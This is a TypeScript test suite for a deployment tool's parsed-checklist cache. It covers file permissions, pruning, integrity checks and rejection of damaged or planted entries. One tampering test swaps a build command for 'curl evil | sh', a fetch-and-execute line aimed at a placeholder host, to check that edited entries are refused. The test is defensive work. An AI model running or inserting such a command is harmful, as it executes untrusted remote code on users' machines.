/**
 * The parsed-checklist cache: a checklist read again is the same checklist, with the
 * same problems, whether it came from the cache or the parser; an entry that is cut
 * short, damaged, edited, another build's or not the operator's own is never used.
 */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  truncateSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { fileURLToPath } from 'node:url'
import { loadChecklist } from '../../src/checklist/load.ts'
import { parseChecklist } from '../../src/checklist/parse.ts'
import {
  bundledEntryFile,
  cacheFolder,
  heldWrites,
  MAX_ENTRIES,
  NO_CACHE_VARIABLE,
  readBundledEntry,
  readEntry,
  serializeEntry,
} from '../../src/checklist/parse-cache.ts'
import { runCli } from '../helpers/cli.ts'
import { tempDir } from '../helpers/temp.ts'

const ROOT = fileURLToPath(new URL('../..', import.meta.url))
const BUNDLED = join(ROOT, 'checklists')
const PUBLIC = join(ROOT, 'test', 'fixtures', 'public')
const EVERY_CHECKLIST = [
  ...readdirSync(BUNDLED)
    .filter((name) => name.endsWith('.md'))
    .map((name) => join(BUNDLED, name)),
  ...readdirSync(PUBLIC)
    .filter((name) => name.endsWith('.md') && name !== 'SOURCES.md')
    .map((name) => join(PUBLIC, name)),
]

const CHECKLIST = `---
environments: [dev, prod]
aliases: { prod: [production, live] }
---
# Release
## Deploy
- [ ] Build <!-- check: command run="npm run build" -->
- [ ] Smoke test (live only)
- [ ] Bad <!-- check: nope x=1 -->
`

/** A home with the cache on (the test launcher turns it off for every other test). */
function setUp(): { env: NodeJS.ProcessEnv; file: string; entry: string; sha256: string } {
  const dir = tempDir('parse-cache')
  const env = { ...process.env, DEPLOY_WIZARD_HOME: join(dir, 'home'), [NO_CACHE_VARIABLE]: '' }
  const file = join(dir, 'release.md')
  writeFileSync(file, CHECKLIST)
  const sha256 = createHash('sha256').update(CHECKLIST).digest('hex')
  return { env, file, entry: join(cacheFolder(env), `${sha256}.json`), sha256 }
}

function fresh(file: string) {
  const bytes = readFileSync(file)
  const sha256 = createHash('sha256').update(bytes).digest('hex')
  return parseChecklist(bytes.toString('utf8'), { path: file, sha256 })
}

/** Rewrites an entry's body as a valid entry would have it, changing what `edit` changes. */
function rewrite(entry: string, file: string, edit: (title: string) => string): void {
  const [header, body] = splitEntry(readFileSync(entry, 'utf8'))
  const parsed = JSON.parse(body)
  parsed.checklist.title = edit(parsed.checklist.title)
  const { sha256 } = JSON.parse(header)
  const result = {
    checklist: { path: file, sha256, ...parsed.checklist },
    problems: parsed.problems,
    hasErrors: parsed.hasErrors,
  }
  writeFileSync(entry, serializeEntry(result))
}

function splitEntry(text: string): [string, string] {
  const at = text.indexOf('\n')
  return [text.slice(0, at), text.slice(at + 1)]
}

describe('the parse cache', () => {
  it('keeps a parse in the home, owner-only, and gives it back for the same bytes', async () => {
    const { env, file, entry } = setUp()
    const miss = await loadChecklist(file, env)
    assert.deepStrictEqual(miss, fresh(file))
    assert.equal(statSync(entry).mode & 0o777, 0o600)
    assert.equal(statSync(cacheFolder(env)).mode & 0o777, 0o700)
    // Taken from the entry: an entry whose title says so shows it.
    rewrite(entry, file, () => 'From the cache')
    const hit = await loadChecklist(file, env)
    assert.equal(hit.checklist.title, 'From the cache')
    assert.deepStrictEqual({ ...hit.checklist, title: miss.checklist.title }, miss.checklist)
    assert.deepStrictEqual(hit.problems, miss.problems)
    assert.equal(hit.hasErrors, true)
  })

  it('gives the path it is read from, not the one the entry was made for', async () => {
    const { env, file } = setUp()
    await loadChecklist(file, env)
    const other = join(tempDir('parse-cache-other'), 'copy.md')
    writeFileSync(other, CHECKLIST)
    const hit = await loadChecklist(other, env)
    assert.equal(hit.checklist.path, other)
    assert.deepStrictEqual(hit, fresh(other))
  })

  it('parses again once the file changes, whatever the entry of its old bytes says', async () => {
    const { env, file, entry } = setUp()
    await loadChecklist(file, env)
    rewrite(entry, file, () => 'Old bytes')
    writeFileSync(file, CHECKLIST.replace('# Release', '# Release 2'))
    const result = await loadChecklist(file, env)
    assert.equal(result.checklist.title, 'Release 2')
  })

  const damages: [string, (entry: string, file: string) => void][] = [
    ['cut short', (entry) => truncateSync(entry, statSync(entry).size - 40)],
    [
      'cut to its header',
      (entry) => truncateSync(entry, readFileSync(entry, 'utf8').indexOf('\n')),
    ],
    ['empty', (entry) => writeFileSync(entry, '')],
    ['not JSON', (entry) => writeFileSync(entry, 'garbage\n{{{')],
    [
      'edited without its checksum (a check that runs something else)',
      (entry) =>
        writeFileSync(
          entry,
          readFileSync(entry, 'utf8').replace('npm run build', 'curl evil | sh   '),
        ),
    ],
    [
      "another version's",
      (entry) => {
        const [header, body] = splitEntry(readFileSync(entry, 'utf8'))
        writeFileSync(
          entry,
          `${header.replace(/"version":"[^"]*"/, '"version":"0.0.0-old"')}\n${body}`,
        )
      },
    ],
    [
      "another build's",
      (entry) => {
        const [header, body] = splitEntry(readFileSync(entry, 'utf8'))
        writeFileSync(entry, `${header.replace(/"build":"[^"]*"/, '"build":"other"')}\n${body}`)
      },
    ],
    [
      "another file's, copied under this one's name",
      (entry, file) => {
        const other = `${file}.other.md`
        writeFileSync(other, '# Other\n## A\n- [ ] x\n')
        const otherSha = createHash('sha256').update(readFileSync(other)).digest('hex')
        const result = parseChecklist(readFileSync(other, 'utf8'), {
          path: other,
          sha256: otherSha,
        })
        writeFileSync(entry, serializeEntry(result))
        rmSync(other)
      },
    ],
    [
      'of the right shape in its header only',
      (entry) => {
        const [header] = splitEntry(readFileSync(entry, 'utf8'))
        const fields = JSON.parse(header)
        const body = '{"checklist":{"title":"x"},"problems":[],"hasErrors":false}'
        const checksum = createHash('sha256')
          .update(`${fields.format}\n${fields.version}\n${fields.build}\n${fields.sha256}\n`)
          .update(body)
          .digest('hex')
        writeFileSync(entry, `${JSON.stringify({ ...fields, checksum })}\n${body}`)
      },
    ],
    ['writable by others', (entry) => chmodSync(entry, 0o666)],
  ]
  for (const [name, damage] of damages) {
    it(`ignores an entry ${name}, parses the file and writes the entry again`, async () => {
      const { env, file, entry } = setUp()
      const miss = await loadChecklist(file, env)
      damage(entry, file)
      const again = await loadChecklist(file, env)
      assert.deepStrictEqual(again, miss)
      assert.deepStrictEqual(
        readEntry(readFileSync(entry, 'utf8'), file, miss.checklist.sha256),
        miss,
      )
      assert.equal(statSync(entry).mode & 0o777, 0o600)
    })
  }

  it('neither reads nor writes entries in a cache folder others may write', async () => {
    const { env, file, entry } = setUp()
    await loadChecklist(file, env)
    rewrite(entry, file, () => 'Planted')
    chmodSync(cacheFolder(env), 0o777)
    try {
      assert.equal((await loadChecklist(file, env)).checklist.title, 'Release')
      // Not written either: the planted entry is still there, untouched.
      assert.equal(
        readEntry(readFileSync(entry, 'utf8'), file, fresh(file).checklist.sha256)?.checklist.title,
        'Planted',
      )
    } finally {
      chmodSync(cacheFolder(env), 0o700)
    }
  })

  it('keeps the most recently used entries, and removes what a killed writer left', async () => {
    const { env, file, entry } = setUp()
    const folder = cacheFolder(env)
    mkdirSync(folder, { recursive: true, mode: 0o700 })
    chmodSync(join(folder, '..'), 0o700)
    // Older entries, each a minute older than the last.
    const old = Array.from({ length: MAX_ENTRIES + 5 }, (_, i) => {
      const name = join(folder, `${createHash('sha256').update(String(i)).digest('hex')}.json`)
      writeFileSync(name, '{}\n{}', { mode: 0o600 })
      const at = new Date(Date.now() - (i + 2) * 60_000)
      utimesSync(name, at, at)
      return name
    })
    // The oldest was read a moment ago.
    const read = old[MAX_ENTRIES + 4] as string
    utimesSync(read, new Date(), new Date())
    const leftover = `${entry}.tmp-1-abcd`
    writeFileSync(leftover, 'half')
    const hoursAgo = new Date(Date.now() - 2 * 3_600_000)
    utimesSync(leftover, hoursAgo, hoursAgo)
    // A miss writes an entry, and prunes.
    await loadChecklist(file, env)
    const left = readdirSync(folder)
    assert.equal(left.length, MAX_ENTRIES)
    assert.ok(existsSync(entry), 'the entry just written is kept')
    assert.ok(existsSync(read), 'the entry read a moment ago is kept')
    assert.ok(!existsSync(old[MAX_ENTRIES + 3] as string), 'the least recently used goes')
    assert.ok(!existsSync(leftover), 'a temporary file from hours ago goes')
  })

  it('marks an entry used when it is read, so that pruning keeps it', async () => {
    const { env, file, entry } = setUp()
    await loadChecklist(file, env)
    const long = new Date(Date.now() - 86_400_000)
    utimesSync(entry, long, long)
    await loadChecklist(file, env)
    assert.ok(statSync(entry).mtimeMs > Date.now() - 60_000)
  })

  it('writes a parse made with held writes only once they are released, then at once', async () => {
    const { env, file, entry } = setUp()
    const writes = heldWrites()
    const result = await loadChecklist(file, env, writes)
    assert.deepStrictEqual(result, fresh(file))
    assert.ok(!existsSync(entry), 'not written before the first screen is up')
    writes.release()
    assert.ok(existsSync(entry))
    assert.deepStrictEqual(await loadChecklist(file, env), result)
    // Released already: a later parse is kept at once.
    const other = join(tempDir('parse-cache-later'), 'later.md')
    const text = CHECKLIST.replace('# Release', '# Later')
    writeFileSync(other, text)
    await loadChecklist(other, env, writes)
    const sha256 = createHash('sha256').update(text).digest('hex')
    assert.ok(existsSync(join(cacheFolder(env), `${sha256}.json`)))
  })

  it('writes what is still held when the process exits before releasing it', () => {
    const { env, file, entry } = setUp()
    const source = (name: string) => JSON.stringify(join(ROOT, 'src', 'checklist', name))
    const script = [
      `import { loadChecklist } from ${source('load.ts')}`,
      `import { heldWrites } from ${source('parse-cache.ts')}`,
      `await loadChecklist(${JSON.stringify(file)}, process.env, heldWrites())`,
      'process.exit(0)',
    ].join('\n')
    execFileSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script], {
      env,
      stdio: 'ignore',
    })
    assert.deepStrictEqual(
      readEntry(readFileSync(entry, 'utf8'), file, fresh(file).checklist.sha256),
      fresh(file),
    )
  })

  it(`is off with ${NO_CACHE_VARIABLE}`, async () => {
    const { env, file, entry } = setUp()
    await loadChecklist(file, { ...env, [NO_CACHE_VARIABLE]: '1' })
    assert.throws(() => statSync(entry), { code: 'ENOENT' })
  })

  it('gives back exactly what the parser made, for every bundled and public checklist', () => {
    for (const file of EVERY_CHECKLIST) {
      const parsed = fresh(file)
      const cached = readEntry(serializeEntry(parsed), file, parsed.checklist.sha256)
      assert.deepStrictEqual(cached, parsed, file)
    }
  })
})

describe('the build’s parse of the bundled checklists', () => {
  for (const name of readdirSync(BUNDLED).filter((n) => n.endsWith('.md'))) {
    it(`holds what the parser makes of ${name}, for the build that wrote it`, () => {
      const file = join(BUNDLED, name)
      const text = readBundledEntry(bundledEntryFile(file) ?? '') ?? ''
      const { build } = JSON.parse(splitEntry(text)[0])
      const parsed = fresh(file)
      assert.deepStrictEqual(readEntry(text, file, parsed.checklist.sha256, build), parsed)
    })
  }
})

describe('validate, from the cache and from the parser', () => {
  it('prints the same for every bundled and public checklist, cold, warm and without the cache', async () => {
    const home = join(tempDir('parse-cache-validate'), 'home')
    const runs = []
    for (const json of [false, true]) {
      const args = ['validate', ...(json ? ['--json'] : []), ...EVERY_CHECKLIST]
      const parsed = await runCli(args, { DEPLOY_WIZARD_HOME: home, [NO_CACHE_VARIABLE]: '1' })
      const cold = await runCli(args, { DEPLOY_WIZARD_HOME: home, [NO_CACHE_VARIABLE]: undefined })
      const warm = await runCli(args, { DEPLOY_WIZARD_HOME: home, [NO_CACHE_VARIABLE]: undefined })
      runs.push(parsed, cold, warm)
      assert.deepEqual(cold, parsed)
      assert.deepEqual(warm, parsed)
    }
    // The warm runs read entries: one per checklist that is not bundled (those the build parsed).
    const entries = readdirSync(join(home, 'cache', 'checklists'))
    assert.equal(entries.length, EVERY_CHECKLIST.length - readdirSync(BUNDLED).length)
    assert.ok(runs.every((r) => r.stderr === ''))
  })
})
